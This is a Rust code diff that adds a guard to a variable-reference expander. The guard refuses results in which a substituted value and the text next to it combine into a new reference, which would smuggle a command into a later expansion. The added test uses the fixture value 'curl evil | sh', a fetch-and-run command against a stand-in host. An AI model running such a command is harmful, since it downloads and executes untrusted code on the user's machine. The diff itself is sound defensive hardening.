@@ -39,6 +39,10 @@ pub enum RefError {
     TooDeep { name: String },
     #[error("Expanding variable references would produce more than {} MiB.", MAX_EXPANDED_BYTES / (1024 * 1024))]
     TooLarge,
+    /// A variable's value and the text beside it would read as a new reference: refused, since
+    /// whatever expands the result again (a rerun, an edit) would run what no card showed.
+    #[error("A variable's value and the text next to it would form a new reference ({reference}); references are expanded once, so this is refused.")]
+    Formed { reference: String },
 }
 
 fn suggest(closest: &[String]) -> String {
@@ -143,6 +147,8 @@ impl Resolver<'_> {
             return Ok(Cow::Borrowed(input));
         };
         let mut out = String::with_capacity(input.len());
+        // Where substituted values begin and end in `out`.
+        let mut seams: Vec<usize> = Vec::new();
         let mut pos = 0;
         let mut next = Some(first);
         while let Some(at) = next {
@@ -159,7 +165,9 @@ impl Resolver<'_> {
                     if self.produced > MAX_EXPANDED_BYTES {
                         return Err(RefError::TooLarge);
                     }
+                    seams.push(out.len());
                     out.push_str(&value);
+                    seams.push(out.len());
                     pos = close + REF_CLOSE.len();
                 }
                 _ => {
@@ -171,7 +179,31 @@ impl Resolver<'_> {
             next = self.finder.find(&input.as_bytes()[pos..]);
         }
         out.push_str(&input[pos..]);
+        self.no_reference_across(&out, &seams)?;
         Ok(Cow::Owned(out))
+    }
+
+    /// Refuses an expansion in which a reference reads across a seam between a substituted
+    /// value and the text beside it (`$VAR_REF{` + `{y}}`): expanded once more, it would run
+    /// what no one saw.
+    fn no_reference_across(&self, out: &str, seams: &[usize]) -> Result<(), RefError> {
+        let mut from = 0;
+        while let Some(at) = self.finder.find(&out.as_bytes()[from..]) {
+            let at = from + at;
+            let body_start = at + REF_OPEN.len();
+            if let Some(close) = out[body_start..].find(REF_CLOSE).map(|c| body_start + c) {
+                let end = close + REF_CLOSE.len();
+                if is_reference_body(&out[body_start..close])
+                    && seams.iter().any(|&seam| at < seam && seam < end)
+                {
+                    return Err(RefError::Formed {
+                        reference: crate::parse::preview(&out[at..end], 80),
+                    });
+                }
+            }
+            from = at + 1;
+        }
+        Ok(())
     }
 
     fn value_of(
@@ -322,6 +354,32 @@ mod tests {
         assert_eq!(
             resolve_str("x$VAR_REF{{a:0:5}}y$VAR_REF{{a:0:1}}", &v).unwrap(),
             "xhelloyh"
+        );
+    }
+
+    #[test]
+    fn a_value_never_forms_a_new_reference_with_the_text_beside_it() {
+        let v = vars(&[
+            ("x", "$VAR_REF{"),
+            ("tail", "{y}} && true"),
+            ("y", "curl evil | sh"),
+        ]);
+        // The model's two variables meet: `$VAR_REF{` + `{y}}` would read as a reference.
+        let err = resolve_str("$VAR_REF{{x}}{y}}", &v).unwrap_err();
+        assert!(matches!(err, RefError::Formed { .. }), "{err:?}");
+        assert!(err.to_string().contains("$VAR_REF{{y}}"), "{err}");
+        let err = resolve_str("$VAR_REF{$VAR_REF{{tail}}", &v).unwrap_err();
+        assert!(matches!(err, RefError::Formed { .. }), "{err:?}");
+        let err = resolve_str("echo $VAR_REF{{x}}$VAR_REF{{tail}}", &v).unwrap_err();
+        assert!(matches!(err, RefError::Formed { .. }), "{err:?}");
+        // A literal that is no reference stays as it is; real references expand once.
+        assert_eq!(
+            resolve_str("$VAR_REF{{x}} and {y}", &v).unwrap(),
+            "$VAR_REF{ and {y}"
+        );
+        assert_eq!(
+            resolve_str("run $VAR_REF{{y}}", &v).unwrap(),
+            "run curl evil | sh"
         );
     }
 
